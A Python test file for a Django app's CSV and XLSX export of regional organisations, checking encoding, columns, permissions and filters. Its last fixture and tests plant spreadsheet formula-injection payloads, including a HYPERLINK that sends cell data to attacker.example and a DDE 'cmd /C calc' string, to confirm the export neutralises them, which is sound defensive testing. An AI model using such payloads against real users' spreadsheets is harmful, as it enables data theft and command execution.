import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from inducult.network.domain.exporting import EXPORT_COLUMNS
from tests.factories import OrganisationFactory

pytestmark = pytest.mark.django_db


def url(fmt):
    return reverse("network:organisation_export", args=["karlovy-vary", fmt])


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def porcelain(region):
    return OrganisationFactory(
        region=region,
        name="Porcelánka Březová",
        kind="enterprise",
        sectors=["porcelain", "crafts"],
        town="Březová",
        tags=["tours", "shop"],
        latitude=Decimal("50.186000"),
        longitude=Decimal("12.740500"),
        influence=3,
        is_sample=True,
    )


def test_csv_export_has_bom_stable_header_and_czech_text(coordinator_client, porcelain, region):
    OrganisationFactory(region=region, name="Glass works", sectors=["glass"])
    response = coordinator_client.get(url("csv"), {"sector": "porcelain"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="organisations-karlovy-vary-')
    raw = body(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert tuple(rows[0]) == EXPORT_COLUMNS
    assert len(rows) == 2
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["name"] == "Porcelánka Březová"
    assert record["sectors"] == "porcelain; crafts"
    assert record["tags"] == "tours; shop"
    assert record["latitude"] == "50.186"
    assert record["longitude"] == "12.7405"
    assert record["influence"] == "3"
    assert record["interest"] == ""
    assert record["archived"] == "no"
    assert record["is_sample"] == "yes"
    assert record["id"] == str(porcelain.pk)


def test_xlsx_export_reads_back_with_the_same_columns(coordinator_client, porcelain):
    response = coordinator_client.get(url("xlsx"))
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)), read_only=True)
    rows = list(workbook.active.iter_rows(values_only=True))
    assert rows[0] == EXPORT_COLUMNS
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["name"] == "Porcelánka Březová"
    assert record["latitude"] == 50.186
    assert record["id"] == porcelain.pk
    assert record["sectors"] == "porcelain; crafts"


def test_export_leaves_out_archived_unless_asked(coordinator_client, region, porcelain):
    OrganisationFactory(region=region, name="Old mine", archived_at="2024-01-01T00:00:00Z")
    default = list(csv.reader(io.StringIO(body(coordinator_client.get(url("csv"))).decode("utf-8-sig"))))
    assert [r[1] for r in default[1:]] == ["Porcelánka Březová"]
    everything = coordinator_client.get(url("csv"), {"archived": "all", "sort": "-name"})
    rows = list(csv.reader(io.StringIO(body(everything).decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["Porcelánka Březová", "Old mine"]
    assert rows[2][EXPORT_COLUMNS.index("archived")] == "yes"


def test_export_of_unknown_format_is_404(coordinator_client):
    assert coordinator_client.get(url("pdf")).status_code == 404


def test_export_is_refused_to_editors(client, editor):
    client.force_login(editor)
    assert client.get(url("csv")).status_code == 403


def test_export_is_allowed_to_viewers(client, viewer, porcelain):
    client.force_login(viewer)
    assert client.get(url("csv")).status_code == 200


def test_export_contains_only_this_region(coordinator_client, other_region, porcelain):
    OrganisationFactory(region=other_region, name="Sächsische Glashütte")
    text = body(coordinator_client.get(url("csv"))).decode("utf-8-sig")
    assert "Glashütte" not in text
    assert "Porcelánka" in text


@pytest.fixture
def planted(region):
    """An organisation whose texts a spreadsheet would run as formulas, as an editor could name it."""
    return OrganisationFactory(
        region=region,
        name='=HYPERLINK("https://attacker.example/?"&A1,"Click")',
        short_name="@SUM(1+1)*cmd|' /C calc'!A0",
        town="+1+2",
        address="-2+3",
        phone="+420 353 000 000",
        tags=["=1+1", "shop"],
    )


PLANTED = {
    "name": '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "short_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "town": "+1+2",
    "address": "-2+3",
    "phone": "+420 353 000 000",
    "tags": "=1+1; shop",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_runs_no_formula_and_reads_back_unchanged_by_the_import(coordinator_client, planted):
    from inducult.network.services.importing.reading import read_table

    raw = body(coordinator_client.get(url("csv")))
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert {name: record[name] for name in PLANTED} == {name: "'" + value for name, value in PLANTED.items()}
    table = read_table(raw, "organisations.csv")
    assert {name: table.rows[0][1][table.header.index(name)] for name in PLANTED} == PLANTED


def test_xlsx_export_has_no_formula_cell_and_keeps_the_text(coordinator_client, planted):
    workbook = openpyxl.load_workbook(io.BytesIO(body(coordinator_client.get(url("xlsx")))))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    header = [cell.value for cell in cells[: len(EXPORT_COLUMNS)]]
    values = [cell.value for cell in cells[len(EXPORT_COLUMNS) :]]
    assert {name: values[header.index(name)] for name in PLANTED} == PLANTED
